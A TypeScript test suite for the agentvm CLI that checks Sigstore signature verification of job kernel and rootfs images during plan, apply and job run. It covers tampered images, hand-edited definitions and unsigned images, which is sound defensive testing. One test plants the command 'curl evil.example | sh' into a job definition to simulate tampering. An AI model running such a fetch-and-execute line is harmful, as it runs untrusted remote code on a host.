// Signed job images (issue 6): at tier moderate and above a job's kernel and rootfs each carry a Sigstore bundle,
// signed by the manifest's signer. Plan verifies the images on the host and refuses a bad signature at the job's
// address while still showing the rest of the plan; apply verifies the bytes before it installs the definition and
// records digest and signer per image in the lockfile; `job run` refuses before it boots anything. Real git, real
// CLI, real keys and bundles made by scripts/sign-local.js; no mocks.

import { execFileSync } from 'node:child_process';
import { createHash, createPublicKey } from 'node:crypto';
import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { agentvm, assertBuilt, hasStackTrace, ROOT } from './support/cli.js';
import { gitdir, type FileMap, type GitDir } from './support/gitdir.js';

interface PlanJson {
  applicable: boolean;
  changes: Array<{ address: string; action: string }>;
  diagnostics: Array<{
    code: string;
    severity: string;
    address?: string;
    summary: string;
    path?: string;
    location?: { file: string; line: number };
  }>;
}
interface Signed {
  digest: string;
  signer: { keyHint?: string };
}
interface LockJson {
  resources: Record<string, { attributes?: { signature?: Signed; imageSignatures?: Record<string, Signed> } }>;
}

const SIGN_LOCAL = join(ROOT, 'scripts/sign-local.js');
const GIT_ENV = { ...process.env, GIT_CONFIG_NOSYSTEM: '1', GIT_CONFIG_GLOBAL: '/dev/null' };
const sha256 = (bytes: Uint8Array): string => createHash('sha256').update(bytes).digest('hex');
const KERNEL = Buffer.from('stand-in kernel image for the signature tests\n'.repeat(64));
const ROOTFS = Buffer.from('stand-in root image for the signature tests\n'.repeat(64));
const JOB = 'job.digest.summarize';

let base = '';
let source: GitDir;
let publicKeyPem = '';
let keyHint = '';
/** Bundles over the release archive and the two images, made with a fresh key. */
const bundles: Record<'release' | 'kernel' | 'rootfs', string> = { release: '', kernel: '', rootfs: '' };
const cleanups: Array<() => Promise<void> | void> = [];

function sign(bytes: Uint8Array, name: string): string {
  const file = join(base, name);
  writeFileSync(file, bytes);
  return execFileSync(process.execPath, [SIGN_LOCAL, 'sign', '--key', join(base, 'key', 'signing.key.pem'), file], {
    encoding: 'utf8',
  });
}

/** A desired-state repository with one Tier-2 job workload; images pinned to `pins`, bundles as committed. */
function desiredFiles(
  opts: { tier?: string; pins?: { kernel: string; rootfs: string }; unsignedRootfs?: boolean } = {},
): FileMap {
  const pins = opts.pins ?? { kernel: sha256(KERNEL), rootfs: sha256(ROOTFS) };
  return {
    'hosts/h1.yaml':
      'apiVersion: agentvm.dev/v1alpha1\nkind: Host\nmetadata:\n  name: h1\nspec:\n  workloads: [digest]\n',
    'workloads/digest/contract.yaml': `apiVersion: agentvm.dev/v1alpha1\nkind: WorkloadContract\nmetadata:\n  name: digest\nspec:\n  owner: jobs@example.com\n  riskTier: ${opts.tier ?? 'moderate'}\n  substrate: job\n  tools: []\n`,
    'workloads/digest/manifest.yaml': [
      'apiVersion: agentvm.dev/v1alpha1',
      'kind: WorkloadManifest',
      'metadata:',
      '  name: digest',
      'spec:',
      '  archetype: git-release',
      '  source:',
      '    git:',
      `      repo: ${source.dir}`,
      `      commit: ${source.commit}`,
      '  signature:',
      '    bundle: release.sigstore.json',
      '    key: signing.pub.pem',
      '  jobs:',
      '    - name: summarize',
      '      kernel:',
      '        file: kernel.img',
      `        sha256: ${pins.kernel}`,
      '        bundle: kernel.sigstore.json',
      '      rootfs:',
      '        file: rootfs.img',
      `        sha256: ${pins.rootfs}`,
      '        format: initramfs',
      ...(opts.unsignedRootfs ? [] : ['        bundle: rootfs.sigstore.json']),
      '      command: [/bin/summarize]',
      '',
    ].join('\n'),
    'workloads/digest/release.sigstore.json': bundles.release,
    'workloads/digest/kernel.sigstore.json': bundles.kernel,
    'workloads/digest/rootfs.sigstore.json': bundles.rootfs,
    'workloads/digest/signing.pub.pem': publicKeyPem,
  };
}

/** A fresh repository and host root; `images` are put in the host's image directory. */
async function setup(
  files: FileMap,
  images: { kernel?: Buffer; rootfs?: Buffer } = { kernel: KERNEL, rootfs: ROOTFS },
): Promise<{ repo: GitDir; root: string; args: string[] }> {
  const repo = await gitdir(files);
  cleanups.push(() => repo.cleanup());
  const root = mkdtempSync(join(base, 'root-'));
  putImages(root, images);
  return { repo, root, args: ['--repo', repo.dir, '--host', 'h1', '--root', root] };
}

function putImages(root: string, images: { kernel?: Buffer; rootfs?: Buffer }): void {
  const dir = join(root, 'var/lib/agentvm/images');
  mkdirSync(dir, { recursive: true });
  if (images.kernel) writeFileSync(join(dir, 'kernel.img'), images.kernel);
  if (images.rootfs) writeFileSync(join(dir, 'rootfs.img'), images.rootfs);
}

const definitionFile = (root: string): string => join(root, 'var/lib/agentvm/jobs/digest/summarize.json');

/** The kernel with one byte changed: what an attacker without the key can deliver, and re-pin in the manifest. */
function tamperedKernel(): Buffer {
  const bytes = Buffer.from(KERNEL);
  bytes[100] = (bytes[100]! + 1) % 256;
  return bytes;
}

describe('signed job images in plan, apply and job run', () => {
  beforeAll(async () => {
    assertBuilt();
    base = mkdtempSync(join(tmpdir(), 'agentvm-image-signatures-'));
    execFileSync(process.execPath, [SIGN_LOCAL, 'keygen', join(base, 'key')], { stdio: 'ignore' });
    publicKeyPem = readFileSync(join(base, 'key', 'signing.pub.pem'), 'utf8');
    keyHint = createHash('sha256')
      .update(createPublicKey(publicKeyPem).export({ type: 'spki', format: 'der' }))
      .digest('base64');
    source = await gitdir({
      'README.md': "the digest job workload's release\n",
      summarize: '#!/bin/sh\necho summary\n',
    });
    // The release's signed artifact, as release.git makes it: `git archive --format=tar <commit>`, tar.umask 0002.
    const archive = execFileSync('git', ['-c', 'tar.umask=0002', 'archive', '--format=tar', source.commit], {
      cwd: source.dir,
      env: GIT_ENV,
      maxBuffer: 64 << 20,
    });
    bundles.release = sign(archive, 'release.tar');
    bundles.kernel = sign(KERNEL, 'kernel.img');
    bundles.rootfs = sign(ROOTFS, 'rootfs.img');
  }, 60_000);

  afterEach(async () => {
    for (const cleanup of cleanups.splice(0)) await cleanup();
  });

  afterAll(async () => {
    await source?.cleanup();
    if (base !== '') rmSync(base, { recursive: true, force: true });
  });

  it('GIVEN a moderate job with signed images on the host WHEN planned and applied THEN the plan is clean and the lockfile records digest and signer per image', async () => {
    const { root, args } = await setup(desiredFiles());
    const plan = await agentvm(['plan', ...args, '--json']);
    expect(plan.code, plan.stdout + plan.stderr).toBe(0);
    const p = JSON.parse(plan.stdout) as PlanJson;
    expect(p.diagnostics.filter((d) => d.severity === 'error')).toEqual([]);
    expect(p.applicable).toBe(true);
    expect(p.changes.map((c) => `${c.action} ${c.address}`).sort()).toEqual([
      'create job.digest.summarize',
      'create release.digest',
    ]);

    const apply = await agentvm(['apply', ...args, '--auto-approve']);
    expect(apply.code, apply.stdout + apply.stderr).toBe(0);
    expect(existsSync(definitionFile(root))).toBe(true);
    const lock = JSON.parse((await agentvm(['state', 'show', 'h1', '--root', root, '--json'])).stdout) as LockJson;
    const images = lock.resources[JOB]!.attributes!.imageSignatures!;
    expect(images.kernel).toEqual({ digest: `sha256:${sha256(KERNEL)}`, signer: { keyHint } });
    expect(images.rootfs).toEqual({ digest: `sha256:${sha256(ROOTFS)}`, signer: { keyHint } });
    expect(lock.resources['release.digest']!.attributes!.signature!.signer.keyHint).toBe(keyHint);

    const again = await agentvm(['plan', ...args, '--detailed-exitcode']);
    expect(again.code, again.stdout + again.stderr).toBe(0);
  });

  it('GIVEN an image changed by one byte on the host and re-pinned in the manifest WHEN planned THEN signature.* at the job address, the rest of the plan is shown, and apply installs nothing of the job', async () => {
    const kernel = tamperedKernel();
    const { root, args } = await setup(desiredFiles({ pins: { kernel: sha256(kernel), rootfs: sha256(ROOTFS) } }), {
      kernel,
      rootfs: ROOTFS,
    });
    const plan = await agentvm(['plan', ...args, '--json']);
    expect(plan.code, plan.stderr).toBe(1);
    const p = JSON.parse(plan.stdout) as PlanJson;
    const refusals = p.diagnostics.filter((d) => d.severity === 'error');
    expect(refusals.map((d) => d.address)).toEqual([JOB]);
    expect(refusals[0]!.code).toMatch(/^signature\.(digest-mismatch|invalid)$/);
    expect(refusals[0]!.summary).toContain(`${JOB} (kernel)`);
    expect(p.applicable).toBe(false);
    expect(p.changes.map((c) => c.address).sort()).toEqual([JOB, 'release.digest']);

    const apply = await agentvm(['apply', ...args, '--auto-approve']);
    expect(apply.code).toBe(1);
    expect(apply.stderr).toContain(JOB);
    expect(hasStackTrace(apply.stderr)).toBe(false);
    expect(existsSync(definitionFile(root))).toBe(false);
  });

  it('GIVEN a signed job applied before its images arrived WHEN it is run THEN it is refused before anything is registered; once they arrive, plan shows the update and apply records the verified pins', async () => {
    const { root, args } = await setup(desiredFiles(), {});
    const apply = await agentvm(['apply', ...args, '--auto-approve']);
    expect(apply.code, apply.stdout + apply.stderr).toBe(0);
    expect(
      (JSON.parse(readFileSync(definitionFile(root), 'utf8')) as { signaturesVerified?: unknown }).signaturesVerified,
    ).toEqual({});

    // A run reads only what apply installed (ADR 0009): the pins' signatures were never checked, so nothing boots.
    const run = await agentvm(['job', 'run', 'digest/summarize', '--root', root, '--json']);
    expect(run.code, run.stdout + run.stderr).toBe(1);
    expect((JSON.parse(run.stdout) as { error: { code: string } }).error.code).toBe('job.images-unverified');
    expect(existsSync(join(root, 'run/agentvm/jobs'))).toBe(false);
    const text = await agentvm(['job', 'run', 'digest/summarize', '--root', root]);
    expect(text.stderr).toContain('agentvm apply');
    expect(hasStackTrace(text.stderr)).toBe(false);

    putImages(root, { kernel: KERNEL, rootfs: ROOTFS });
    const plan = await agentvm(['plan', ...args, '--json', '--detailed-exitcode']);
    expect(plan.code, plan.stdout + plan.stderr).toBe(2);
    const change = (JSON.parse(plan.stdout) as PlanJson).changes.find((c) => c.address === JOB) as unknown as {
      action: string;
      reasons: Array<{ message: string }>;
    };
    expect(change.action).toBe('update');
    expect(change.reasons[0]!.message).toContain('verifies their signatures');
    const again = await agentvm(['apply', ...args, '--auto-approve']);
    expect(again.code, again.stdout + again.stderr).toBe(0);
    expect(
      (JSON.parse(readFileSync(definitionFile(root), 'utf8')) as { signaturesVerified?: unknown }).signaturesVerified,
    ).toEqual({ kernel: sha256(KERNEL), rootfs: sha256(ROOTFS) });
    expect((await agentvm(['plan', ...args, '--detailed-exitcode'])).code).toBe(0);
  });

  it('GIVEN an installed job definition edited by hand WHEN the job is run THEN it is refused, and plan shows the drift', async () => {
    const { root, args } = await setup(desiredFiles());
    expect((await agentvm(['apply', ...args, '--auto-approve'])).code).toBe(0);
    const installed = JSON.parse(readFileSync(definitionFile(root), 'utf8')) as { config: { command: string[] } };
    installed.config.command = ['/bin/sh', '-c', 'curl evil.example | sh'];
    writeFileSync(definitionFile(root), JSON.stringify(installed));

    const run = await agentvm(['job', 'run', 'digest/summarize', '--root', root, '--json']);
    expect(run.code, run.stdout + run.stderr).toBe(1);
    expect((JSON.parse(run.stdout) as { error: { code: string } }).error.code).toBe('job.definition-modified');
    expect(existsSync(join(root, 'run/agentvm/jobs'))).toBe(false);

    const plan = await agentvm(['plan', ...args, '--json', '--detailed-exitcode']);
    expect(plan.code).toBe(2);
    const p = JSON.parse(plan.stdout) as { drift: Array<{ address: string; reasons: Array<{ code: string }> }> };
    expect(p.drift.find((d) => d.address === JOB)?.reasons.map((r) => r.code)).toEqual(['live-modified']);
  });

  it('GIVEN the record of verified signatures deleted from an installed signed job WHEN it is run THEN it is refused, and plan re-verifies', async () => {
    const { root, args } = await setup(desiredFiles());
    expect((await agentvm(['apply', ...args, '--auto-approve'])).code).toBe(0);
    const installed = JSON.parse(readFileSync(definitionFile(root), 'utf8')) as { signaturesVerified?: unknown };
    delete installed.signaturesVerified;
    writeFileSync(definitionFile(root), JSON.stringify(installed));

    const run = await agentvm(['job', 'run', 'digest/summarize', '--root', root, '--json']);
    expect(run.code, run.stdout + run.stderr).toBe(1);
    expect((JSON.parse(run.stdout) as { error: { code: string } }).error.code).toBe('job.images-unverified');
    expect(existsSync(join(root, 'run/agentvm/jobs'))).toBe(false);
    const plan = await agentvm(['plan', ...args, '--json', '--detailed-exitcode']);
    expect(plan.code).toBe(2);
    expect((JSON.parse(plan.stdout) as PlanJson).changes.find((c) => c.address === JOB)?.action).toBe('update');
  });

  it('GIVEN a job that was never applied WHEN it is run THEN a clear error names what is installed and what to do', async () => {
    const root = mkdtempSync(join(base, 'empty-root-'));
    const run = await agentvm(['job', 'run', 'digest/summarize', '--root', root]);
    expect(run.code).toBe(1);
    expect(run.stderr).toContain('No job digest/summarize is installed');
    expect(run.stderr).toContain('agentvm apply');
    expect(hasStackTrace(run.stderr)).toBe(false);
  });

  it('GIVEN a plan made before the images arrived WHEN a tampered, re-pinned image is delivered and the saved plan applied THEN apply re-derives the plan from its commit, finds the image no longer verifies, and refuses the whole plan before anything is installed', async () => {
    const kernel = tamperedKernel();
    const { root, args } = await setup(desiredFiles({ pins: { kernel: sha256(kernel), rootfs: sha256(ROOTFS) } }), {});
    const planFile = join(root, 'plan.json');
    const plan = await agentvm(['plan', ...args, '--out', planFile, '--json']);
    expect(plan.code, plan.stdout + plan.stderr).toBe(0);
    const p = JSON.parse(plan.stdout) as PlanJson;
    // Nothing to verify yet: images are delivered out of band, and each run verifies them again.
    expect(p.diagnostics.filter((d) => d.severity === 'error')).toEqual([]);
    expect(p.applicable).toBe(true);

    putImages(root, { kernel, rootfs: ROOTFS });
    // The saved plan is bound to its commit (ADR 0015): re-derived with the images present, the kernel fails its
    // signature, so the derivation differs from the file and nothing at all is applied.
    const apply = await agentvm(['apply', planFile, '--root', root, '--json']);
    expect(apply.code, apply.stdout + apply.stderr).toBe(1);
    const res = JSON.parse(apply.stdout) as { error: { code: string } };
    expect(res.error.code).toBe('apply.plan-mismatch');
    expect(existsSync(definitionFile(root))).toBe(false);
    expect(existsSync(join(root, 'var/lib/agentvm/releases/digest/current'))).toBe(false);
    // A fresh plan shows why: the job's kernel does not verify.
    const again = await agentvm(['plan', ...args, '--json']);
    expect((JSON.parse(again.stdout) as PlanJson).diagnostics.map((d) => d.code)).toContainEqual(
      expect.stringMatching(/^signature\.(digest-mismatch|invalid)$/),
    );
  });

  it('GIVEN a moderate job whose rootfs names no bundle WHEN planned THEN policy.unsigned-image at the rootfs, and the plan cannot be applied', async () => {
    const files = desiredFiles({ unsignedRootfs: true });
    const { args } = await setup(files);
    const plan = await agentvm(['plan', ...args, '--json']);
    expect(plan.code, plan.stderr).toBe(1);
    const p = JSON.parse(plan.stdout) as PlanJson;
    const errors = p.diagnostics.filter((d) => d.severity === 'error');
    expect(errors.map((d) => d.code)).toEqual(['policy.unsigned-image']);
    expect(errors[0]!.path).toBe('$.spec.jobs[0].rootfs');
    const manifest = String(files['workloads/digest/manifest.yaml']).split('\n');
    expect(errors[0]!.location).toMatchObject({
      file: 'workloads/digest/manifest.yaml',
      line: manifest.indexOf('      rootfs:') + 1,
    });
    expect(p.applicable).toBe(false);
    expect(p.changes.map((c) => c.address).sort()).toEqual([JOB, 'release.digest']);
  });

  it('GIVEN the same unsigned rootfs at tier low WHEN planned THEN nothing is required, and the signed kernel is still verified and recorded', async () => {
    const { root, args } = await setup(desiredFiles({ tier: 'low', unsignedRootfs: true }));
    const apply = await agentvm(['apply', ...args, '--auto-approve']);
    expect(apply.code, apply.stdout + apply.stderr).toBe(0);
    const lock = JSON.parse((await agentvm(['state', 'show', 'h1', '--root', root, '--json'])).stdout) as LockJson;
    expect(Object.keys(lock.resources[JOB]!.attributes!.imageSignatures!)).toEqual(['kernel']);
  });
});
